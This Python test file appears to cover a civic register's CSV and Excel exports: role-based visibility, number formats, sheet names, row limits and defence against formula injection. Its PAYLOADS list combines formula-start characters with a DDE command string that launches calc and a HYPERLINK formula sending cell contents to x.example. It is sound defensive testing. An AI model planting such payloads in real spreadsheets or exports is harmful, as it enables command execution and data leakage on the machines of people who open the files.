"""Files that people take out: what they may read and no more, and nothing in them that runs."""

import csv
import io
import zipfile
from datetime import datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from equitytown.terms.register import KINDS, Shape
from equitytown.web.accounts.roles import Role
from equitytown.web.register.exchange import sheets
from equitytown.web.register.exchange.answers import working_about
from equitytown.web.register.exchange.book_out import sheet_name, write_book
from equitytown.web.register.exchange.csv_out import csv_lines
from equitytown.web.register.exchange.disarming import disarmed, rearmed
from equitytown.web.register.exchange.sheets import known_to, working_sheet
from equitytown.web.register.models import State
from tests.web import factories

pytestmark = pytest.mark.usefixtures("town")
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\0=",
    "\n=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    " =",
    "\u200b=",
    "\ufeff=",
)
RUNS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?a="&A1,"Look")')
PAYLOADS = [start + run for start in STARTS for run in RUNS]


def rows_of(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def book_of(response):
    return openpyxl.load_workbook(io.BytesIO(response.content))


def tables_of(book):
    """Rows by the label of their column, for each sheet."""
    found = {}
    for page in book:
        (table,) = page.tables.values()
        heads, *rows = ([cell.value for cell in row] for row in page[table.ref])
        found[page.title] = [dict(zip(heads, row, strict=True)) for row in rows]
    return found


def test_it_works(as_):
    factories.action(title="Insulate homes", due="2026-04-30", supporting=["ORG-A", "ORG-B"], state=State.PUBLISHED)
    response = as_(Role.EDITOR).get("/desk/actions.csv")
    (row,) = rows_of(response)
    assert (row["Reference"], row["Due"], row["Supporting organisations"]) == ("ACT-1", "2026-04-30", "ORG-A; ORG-B")
    assert row["Stage"] == "Published"
    assert "Owner" not in row
    assert response["Content-Disposition"].startswith('attachment; filename="actions-20')
    held = tables_of(book_of(as_(Role.EDITOR).get("/desk/actions.xlsx")))
    assert held["Actions"][0]["Due"] == datetime(2026, 4, 30)  # noqa: DTZ001  a day in a workbook
    assert [row["Note"] for row in held["Notes"]][:4] == ["From", "Made", "Who may read it", "Licence"]


def test_a_file_holds_the_list_as_it_is_narrowed(as_):
    factories.action(title="Insulate homes")
    factories.action(title="Plant trees")
    assert [row["Reference"] for row in rows_of(as_(Role.EDITOR).get("/desk/actions.csv?q=trees"))] == ["ACT-2"]
    notes = tables_of(book_of(as_(Role.EDITOR).get("/desk/actions.xlsx?q=trees")))["Notes"]
    assert 'Only those with words "trees".' in notes[-1]["Meaning"]


def test_a_file_holds_what_its_reader_may_read(as_):
    for letter in "AB":
        factories.action(organisation=f"ORG-{letter}", title=f"Draft of {letter}")
    for ending in ("csv", "xlsx"):
        response = as_(Role.CONTRIBUTOR).get(f"/desk/actions.{ending}")
        rows = rows_of(response) if ending == "csv" else tables_of(book_of(response))["Actions"]
        assert [row["What will be done"] for row in rows] == ["Draft of A"]
    held = tables_of(book_of(as_(Role.CONTRIBUTOR).get("/desk/everything.xlsx")))
    assert [row["What will be done"] for row in held["Actions"]] == ["Draft of A"]
    assert as_(None).get("/desk/actions.csv").status_code == 302
    assert rows_of(as_(Role.ADMINISTRATOR).get("/desk/actions.csv")) == []
    assert list(tables_of(book_of(as_(Role.ADMINISTRATOR).get("/desk/everything.xlsx")))) == ["Notes"]


def test_the_public_takes_what_is_published_and_public(as_):
    hidden = factories.record("organisations", name="Not yet public")
    factories.action(supporting=[hidden.identifier, "ORG-B"], state=State.PUBLISHED)
    factories.action(title="A draft")
    (row,) = rows_of(as_(None).get("/register/actions.csv"))
    assert row["Supporting organisations"] == "ORG-B"
    assert {"Stage", "Last changed"} & set(row) == set()
    story = KINDS["case-studies"]
    private = {f.label for f in story.fields if not f.public}
    response = as_(None).get("/register/everything.xlsx")
    assert hidden.identifier.encode() not in response.content
    held = tables_of(book_of(response))
    assert set(held) == {"Notes", "Workstreams", "Actions", "Organisations"}
    assert not private & set(rows_of(as_(None).get("/register/case-studies.csv")))
    assert "Anyone. All of it is published." in [row["Meaning"] for row in held["Notes"]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_words_run_when_a_file_is_opened(payload, people):
    made = factories.record("funding", source="A fund", purpose="Homes")
    made.content |= {"source": payload, "purpose": payload, "status": payload, "amount": "-12.50"}
    known = known_to(people[Role.EDITOR], [KINDS["funding"]])
    sheet = working_sheet(KINDS["funding"], [made], known, narrowed=[payload])
    line = list(csv.reader(io.StringIO("".join(csv_lines(sheet)), newline="")))[1]
    assert f"'{payload}" in line
    assert "-12.50" in line
    assert not any(
        cell.lstrip(" \t\r\n\0\u200b\ufeff").startswith(tuple("=+@\uff1d\uff0b\uff0d\uff20")) for cell in line
    )
    sheet = working_sheet(KINDS["funding"], [made], known, narrowed=[payload])
    data = write_book(working_about(payload, people[Role.EDITOR]), [sheet])
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        pages = b"".join(parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/sheet"))
    assert b"<f" not in pages
    assert b"<hyperlink" not in pages
    cells = {cell.data_type for row in openpyxl.load_workbook(io.BytesIO(data))["Grants and funds"] for cell in row}
    assert "f" not in cells


def test_numbers_stay_numbers_in_a_workbook(as_):
    factories.record("funding", source="A fund", purpose="Homes", amount="1250.50")
    factories.record("evidence", title="A trial", lesson="It helps", year=2024)
    held = book_of(as_(Role.EDITOR).get("/desk/everything.xlsx"))
    cell = next(c for row in held["Grants and funds"] for c in row if c.value == 1250.5)
    assert (cell.data_type, cell.number_format) == ("n", "#,##0.00")
    cell = next(c for row in held["Evidence library"] for c in row if c.value == 2024)
    assert cell.number_format == "0"


def test_each_sheet_holds_one_table_and_nothing_merged(as_):
    factories.action()
    for page in book_of(as_(Role.EDITOR).get("/desk/everything.xlsx")):
        assert len(page.tables) == 1
        assert not page.merged_cells.ranges
        assert page.freeze_panes is None
        assert page["A1"].value


def test_names_of_sheets_differ_and_fit():
    names = [sheet_name(kind) for kind in KINDS.values()]
    assert len({name.lower() for name in names}) == len(names)
    assert max(map(len, names)) <= 31


def test_labels_differ_within_a_kind():
    for kind in KINDS.values():
        labels = [f.label.lower() for f in kind.fields if f.shape is not Shape.PERSON]
        assert len(set(labels)) == len(labels), kind.slug


@pytest.mark.parametrize("address", ["/desk/organisations.csv", "/desk/everything.xlsx", "/register/organisations.csv",
                                     "/register/everything.xlsx", "/register/organisations.xlsx"])  # fmt: skip
def test_more_rows_than_a_file_holds_are_told(as_, monkeypatch, address):
    for module in ("register.exchange.sheets", "register.views.exports", "reader.downloads"):
        monkeypatch.setattr(f"equitytown.web.{module}.MOST_ROWS", 1)
    response = as_(Role.EDITOR).get(address)
    assert response.status_code == 422
    assert "Narrow the list first" in response.text
    assert sheets.MOST_ROWS == 1


@given(st.text())
def test_an_apostrophe_comes_off_again(words):
    assert rearmed(disarmed(words)) == words
